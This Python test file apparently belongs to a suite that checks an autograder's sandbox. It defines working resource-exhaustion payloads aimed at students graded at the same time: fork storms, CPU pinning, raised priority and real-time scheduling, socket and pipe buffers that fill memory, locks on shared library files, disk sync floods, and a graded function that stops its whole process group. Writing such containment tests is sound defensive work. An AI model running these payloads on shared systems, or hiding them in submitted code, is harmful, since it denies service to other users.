"""Harming a classmate's points: taking processors, priority, system memory, files or time from students who are graded
at the same time. Each attack takes a limited amount for a limited time, in case nothing stops it.
"""

from attack import attack

BUSY = """
import ctypes, os, signal, time
libc = ctypes.CDLL(None)
def tried(call, *arguments):
    try: return call(*arguments)
    except OSError as error: return error
def busy(seconds):
    end = time.time() + seconds
    while time.time() < end: pass
def in_children(many, work, *arguments):
    for _ in range(many):
        if tried(os.fork) == 0:
            try: work(*arguments)
            finally: os._exit(0)
"""


def takes(name, text, reason=None):
    attack(name, BUSY + text, reason=reason, at_most=True)


takes(
    "all processors, with a session for each process",
    """
def wide():
    os.setsid()
    tried(os.sched_setaffinity, 0, range(os.cpu_count()))
    libc.syscall(203 if os.uname().machine == "x86_64" else 122, 0, 8, bytes([255] * 8))
    busy(5)
in_children(30, wide)
""",
)

takes(
    "all processors, in threads of many processes",
    """
import threading
def wide():
    threads = [threading.Thread(target=busy, args=(5,)) for _ in range(3)]
    for thread in threads:
        thread.start()
        tried(os.sched_setaffinity, thread.native_id or 0, range(os.cpu_count()))
    busy(5)
in_children(10, wide)
""",
)

takes(
    "a higher priority than others",
    """
tried(os.setpriority, os.PRIO_PROCESS, 0, -20)
tried(os.nice, -40)
for policy in (os.SCHED_FIFO, os.SCHED_RR):
    tried(os.sched_setscheduler, 0, policy, os.sched_param(50))
for path in ("/proc/self/autogroup", "/proc/self/oom_score_adj"):
    try: open(path, "w").write("-20")
    except OSError: pass
libc.syscall(251 if os.uname().machine == "x86_64" else 30, 1, 0, 1 << 13)
in_children(5, busy, 4)
""",
)

takes(
    "processor time that no parent waits for",
    """
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
end = time.time() + 2.5
while time.time() < end:
    in_children(5, busy, 0.1)
    time.sleep(0.1)
""",
)

takes(
    "a storm of processes that end at once",
    """
end = time.time() + 2.5
while time.time() < end:
    if tried(os.fork) == 0: os._exit(0)
    tried(os.wait)
""",
)

takes(
    "a processor while its own tests wait",
    """
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    in_children(10, busy, 4)
    return 0.0, np.zeros_like(W)
""",
)

takes(
    "the system's memory, in sockets full of data",
    """
import socket
def full():
    held = [socket.socketpair() for _ in range(60)]
    for pair in held:
        for one in pair:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10**7)
            one.setblocking(False)
            try:
                for _ in range(50): one.send(bytes(100_000))
            except OSError: pass
    time.sleep(20)
in_children(4, full)
time.sleep(20)
""",
    "opened too many sockets at once (limit 200)",
)

takes(
    "the system's memory, in wide pipes",
    """
import fcntl
def full():
    for _ in range(60):
        _, end = os.pipe()
        tried(fcntl.fcntl, end, fcntl.F_SETPIPE_SZ, 1 << 20)
        os.set_blocking(end, False)
        try: os.write(end, bytes(1 << 20))
        except OSError: pass
    time.sleep(2)
in_children(4, full)
time.sleep(2)
""",
)

takes(
    "locks and leases on shared files",
    """
import fcntl
held = []
for path in (checks.__file__, np.__file__, os.__file__, "/usr/lib", os.path.dirname(np.__file__)):
    held.append(os.open(path, os.O_RDONLY))
    for command, what in ((fcntl.F_SETLEASE, fcntl.F_RDLCK), (fcntl.F_NOTIFY, 0xFF)):
        tried(fcntl.fcntl, held[-1], command, what)
    tried(fcntl.flock, held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
    tried(fcntl.lockf, held[-1], fcntl.LOCK_SH | fcntl.LOCK_NB)
""",
)

takes(
    "the disk's time",
    """
end = time.time() + 2
while time.time() < end:
    os.sync()
    libc.syncfs(0)
    for k in range(100): os.close(os.open(f"/tmp/{k}", os.O_CREAT | os.O_WRONLY))
    for k in range(100): os.unlink(f"/tmp/{k}")
""",
)

takes(
    "time, by a test that waits while everything is stopped",
    """
# %% label_of
def label_of(scores):
    in_children(5, busy, 4)
    os.kill(0, signal.SIGSTOP)
    return 0
""",
    "label_of",
)
